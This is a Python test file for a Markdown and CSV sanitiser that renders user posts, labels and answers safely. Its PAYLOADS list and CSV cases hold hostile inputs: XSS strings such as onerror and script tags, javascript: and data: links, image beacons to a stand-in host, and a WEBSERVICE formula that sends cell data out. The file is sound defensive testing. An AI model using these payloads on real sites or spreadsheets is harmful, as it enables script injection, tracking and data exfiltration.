"""People's text shown through Markdown: plain for posts and names, allow-listed for answers.

Each output is parsed again by a CommonMark parser with raw HTML *on* (stricter than
Streamlit's, which leaves HTML as text): what it finds is what a viewer's browser would get.
"""

from __future__ import annotations

import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from engagement.safe_text import (
    WORD_JOINER,
    is_safe_url,
    neutralise_cell,
    plain_label,
    plain_markdown,
    safe_markdown,
)

EVIL = "http://127.0.0.1:9/p.png"
PAYLOADS = [
    f"[x][1]\n\n[1]: {EVIL}",
    f"![x][1]\n\n[1]: {EVIL}",
    f'![x][r]\n\n[r]: <{EVIL}> "title"',
    f"![pic]\n\n[pic]: {EVIL}",
    f"![a]({EVIL})",
    f"\\![a]({EVIL})",
    f"\\\\![a]({EVIL})",
    f"!\\[a]({EVIL})",
    f"![a\\]]({EVIL})",
    f"[![a]({EVIL})](https://ok.test)",
    f"[[a]]({EVIL}) [a [b] c]({EVIL}) [[[x]]]",
    f"![a [nested] b]({EVIL})",
    f"![a](<{EVIL}>)",
    f"![a]( {EVIL} 'x')",
    f"<{EVIL}>",
    f"{EVIL} www.evil.test/p.png",
    "&#x3C;img src=http://127.0.0.1:9/p.png&#x3E;",
    "&lt;img src=http://127.0.0.1:9/p.png&gt;",
    f"<img src={EVIL}>",
    "<img src=x onerror=alert(1)> <!-- hidden --> <p>para</p>",
    "<svg onload=alert(1)><image href='http://127.0.0.1:9/p.svg'/></svg>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1)) [c2](JaVaScRiPt:alert(1)) [c3](java&#x73;cript:alert(1))",
    "[d](data:text/html;base64,PHNjcmlwdD4=) ![d](data:image/png;base64,iVBORw0KGgo=)",
    "[v](vbscript:x) [f](file:///etc/passwd) [r](//127.0.0.1:9/x) [rel](/x)",
    "<javascript:alert(1)> <data:text/html,x>",
    ":red[alarm] :material/warning: $\\Huge x$ $$x$$ :smile:",
    "# Shouting\n    code block\n> quote\n- list\n1. numbered\n===\n---",
    "**bold** _it_ `code` ~~gone~~ | table |\n|---|\n| c |",
    f"```\n![a]({EVIL})\n```\n`![b]({EVIL})`",
    f"- item ![a]({EVIL})\n  - nested [x][r]\n\n[r]: {EVIL}",
    f"> quote ![a]({EVIL})\n>\n> > deeper <{EVIL}>",
    f'[a]({EVIL} "t")\n\n[b]: {EVIL}\n\n[c][b] [b] [b][]',
    f"<a href='{EVIL}'>link</a><iframe src='{EVIL}'></iframe>",
    f"\\<img src={EVIL}\\>",
    f"&#33;[a]({EVIL}) &excl;[b]({EVIL})",
    '[x](https://ok.test/a_(b)"onmouseover=alert(1)) [y](https://ok.test/<x>)',
]


def _tokens(shown: str) -> list[Token]:
    """Every token a CommonMark parser with raw HTML on makes of the shown text."""
    parser = MarkdownIt("commonmark", {"html": True}).enable("strikethrough")
    out: list[Token] = []
    pending = parser.parse(shown)
    while pending:
        token = pending.pop()
        out.append(token)
        pending.extend(token.children or [])
    return out


def _allowed(shown: str, *, links: bool) -> None:
    tokens = _tokens(shown)
    kinds = {t.type for t in tokens}
    assert "image" not in kinds and "html_inline" not in kinds and "html_block" not in kinds
    hrefs = [str(t.attrs.get("href", "")) for t in tokens if t.type == "link_open"]
    assert all(is_safe_url(h) for h in hrefs), hrefs
    if not links:
        assert not hrefs
    # no address Streamlit's GitHub-flavoured Markdown would link or fetch by itself
    visible = "".join(t.content for t in tokens if t.type == "text")
    assert "http://" not in visible and "www." not in visible


@pytest.mark.parametrize("text", PAYLOADS)
def test_an_answer_never_carries_an_image_html_or_an_unsafe_link(text: str) -> None:
    _allowed(safe_markdown(text), links=True)


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_post_or_a_name_carries_nothing_but_its_text(text: str) -> None:
    _allowed(plain_markdown(text), links=False)
    _allowed(plain_label(text), links=False)


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_post_shows_exactly_what_was_written(text: str) -> None:
    shown = plain_markdown(text)
    for ch in "<>[]()!*_`#~|:$=&":
        assert all(shown[i - 1] == "\\" for i, c in enumerate(shown) if c == ch), (ch, shown)
    # and unescaping gives the text back, line by line, without leading spaces
    restored = shown.replace("  \n", "\n").replace(WORD_JOINER, "")
    for ch in string.punctuation:
        restored = restored.replace("\\" + ch, ch)
    assert restored == "\n".join(line.strip() for line in text.split("\n"))


def test_a_label_is_one_line() -> None:
    assert plain_label("  Sales\n**East**  ") == "Sales \\*\\*East\\*\\*"


def test_bare_addresses_do_not_become_links() -> None:
    shown = plain_markdown("see http://evil.example, HTTPS://x.test or www.evil.example")
    assert "http://" not in shown.replace("\\", "") and "www." not in shown.replace("\\", "")
    assert f"http{WORD_JOINER}" in shown and f"www{WORD_JOINER}" in shown


def test_line_breaks_are_kept_as_breaks() -> None:
    assert plain_markdown("one\r\ntwo") == "one  \ntwo"


def test_an_answer_keeps_formatting_and_web_links_but_no_images_scripts_or_big_headings() -> None:
    text = (
        "# Our answer\n"
        "**Yes**, see [the plan](https://intranet.example/plan) or [mail us](mailto:hr@x.test).\n"
        "![tracker](https://evil.example/p.png) [run](javascript:alert(1)) "
        "[data](data:text/html;base64,PHNjcmlwdD4=)\n"
        "<img src=x onerror=alert(1)> <!-- hidden -->\n\n"
        "[ref]: https://evil.example/p.png\n"
    )
    shown = safe_markdown(text)
    assert shown.startswith("#### Our answer")
    assert "**Yes**" in shown and "[the plan](https://intranet.example/plan)" in shown
    assert "[mail us](mailto:hr@x.test)" in shown
    assert "evil.example" not in shown and "tracker" in shown  # the words stay, images go
    assert "\\<img src\\=x" in shown and "\\<\\!\\-\\-" in shown


def test_a_reference_link_to_the_web_stays_a_link_and_its_image_twin_its_words() -> None:
    shown = safe_markdown("[plan][1] and ![logo][1]\n\n[1]: https://intranet.example/plan")
    assert shown == "[plan](https://intranet.example/plan) and logo"


def test_structure_survives_the_rewrite() -> None:
    text = "## Steps\n\n1. first\n2. *second*\n   - sub\n\n> said\n\n```\nx = 1\n```\n\n---"
    shown = safe_markdown(text)
    kinds = [t.type for t in _tokens(shown)]
    for kind in ("heading_open", "ordered_list_open", "bullet_list_open", "em_open"):
        assert kind in kinds
    assert "blockquote_open" in kinds and "fence" in kinds and "hr" in kinds
    assert "#### Steps" in shown and "```\nx = 1\n```" in shown


def test_a_link_target_cannot_break_out_of_its_parentheses() -> None:
    shown = safe_markdown("[x](https://ok.test/a_(b)) [y](<https://ok.test/a b>)")
    assert shown == "[x](https://ok.test/a_%28b%29) [y](https://ok.test/a%20b)"


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from([*"![]()<>\\:/\n *_`&#;x1h", "http://e.test/", "www.", "&#x3C;", "]: "]),
        max_size=40,
    ).map("".join)
)
def test_no_arrangement_of_markdown_characters_makes_an_image_or_html(text: str) -> None:
    shown = safe_markdown(text)
    kinds = {t.type for t in _tokens(shown)}
    assert not kinds & {"image", "html_inline", "html_block"}, shown
    assert all(is_safe_url(str(t.attrs.get("href", ""))) for t in _tokens(shown) if t.attrs)
    assert not {t.type for t in _tokens(plain_markdown(text))} & {"image", "link_open"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=WEBSERVICE("http://127.0.0.1:9/?"&A1)', '\'=WEBSERVICE("http://127.0.0.1:9/?"&A1)'),
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+1", "'+1+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("Sales", "Sales"),
        (12, 12),
    ],
)
def test_a_csv_cell_a_spreadsheet_would_run_is_kept_as_text(value: object, cell: object) -> None:
    assert neutralise_cell(value) == cell
